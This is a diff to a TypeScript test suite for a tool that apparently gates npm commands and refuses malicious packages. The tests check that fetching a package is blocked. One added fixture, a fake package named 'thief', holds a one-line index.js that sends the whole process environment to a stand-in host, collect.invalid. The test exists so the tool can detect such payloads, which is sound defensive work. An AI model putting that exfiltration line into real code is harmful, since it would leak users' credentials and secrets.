@@ -20,6 +20,9 @@ const manifest = (dependencies: object): FakePackage => ({
   versions: { '1.0.0': { manifest: { dependencies }, files: { 'package.json': { name: 'dependent', version: '1.0.0', dependencies } } } },
 });
 
+/** Its host does not exist; that it would send the environment there is what its examination finds. */
+const THIEF = { 'index.js': `require('https').request('https://collect.invalid/?' + JSON.stringify(process.env)).end();\n` };
+
 describe('unmask npm', { skip: npm === undefined ? 'there is no npm on the PATH' : false }, () => {
   let ground: Ground;
   let spots = 0;
@@ -34,6 +37,7 @@ describe('unmask npm', { skip: npm === undefined ? 'there is no npm on the PATH'
         good: { versions: { '1.0.0': {} } },
         dependent: manifest({ good: '^1.0.0' }),
         bad: { versions: { '1.0.0': {}, '1.6.6': {} } },
+        thief: { versions: { '1.0.0': { files: THIEF } } },
       },
       [],
     );
@@ -68,6 +72,21 @@ describe('unmask npm', { skip: npm === undefined ? 'there is no npm on the PATH'
     const at = spot({ dependencies: { good: '1.0.0' }, optionalDependencies: { bad: '1.6.6' } });
     const { code, run } = await at.gated('npm', 'install');
     assert.deepEqual([code, run?.refused.map(one => one.name), at.installed('bad')], [REFUSED, ['bad'], undefined]);
+  });
+
+  it('decides about what is only fetched, too, from a registry with a port', async () => {
+    const at = spot();
+    for (const words of [
+      ['pack', 'thief'],
+      ['cache', 'add', 'thief@1.0.0'],
+      ['diff', '--diff=thief@1.0.0', '--diff=good@1.0.0'],
+    ]) {
+      const { code, err } = await at.gated('npm', ...words);
+      assert.equal(code, REFUSED, `${words.join(' ')}: ${err}`);
+      assert.match(err, /^REFUSED {2}thief@1\.0\.0$/m);
+    }
+    assert.ok(!existsSync(join(at.folder, 'thief-1.0.0.tgz')));
+    assert.equal((await at.gated('npm', 'pack', 'good')).code, 0);
   });
 
   it('refuses a lockfile before npm is started, also where npm’s cache is warm', async () => {
